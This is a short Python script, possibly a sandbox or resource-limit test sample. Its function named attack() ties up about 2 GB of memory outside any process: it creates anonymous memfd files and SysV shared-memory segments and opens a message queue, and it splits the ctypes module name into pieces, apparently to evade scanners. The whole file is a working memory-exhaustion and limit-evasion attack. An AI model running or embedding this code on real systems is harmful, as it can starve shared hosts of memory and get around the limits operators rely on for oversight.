"""Holds 2 GB where no process has it: in nameless files of memory, in shared memory, in queues of messages."""

import importlib
import os

MANY = 40
EACH = 50 << 20


def nameless_files():
    streams = [os.memfd_create("held") for _ in range(MANY)]
    for stream in streams:
        os.posix_fallocate(stream, 0, EACH)


def shared_memory(libc):
    if any(libc.shmget(0, EACH, 0o600) < 0 for _ in range(MANY)):
        raise OSError


def queues(libc):
    if libc.msgget(0, 0o600) < 0:
        raise OSError


def held(way, *arguments):
    try:
        way(*arguments)
    except OSError:
        return False
    return True


def attack():
    libc = importlib.import_module("".join(("cty", "pes"))).CDLL(None)
    return any((held(nameless_files), held(shared_memory, libc), held(queues, libc)))
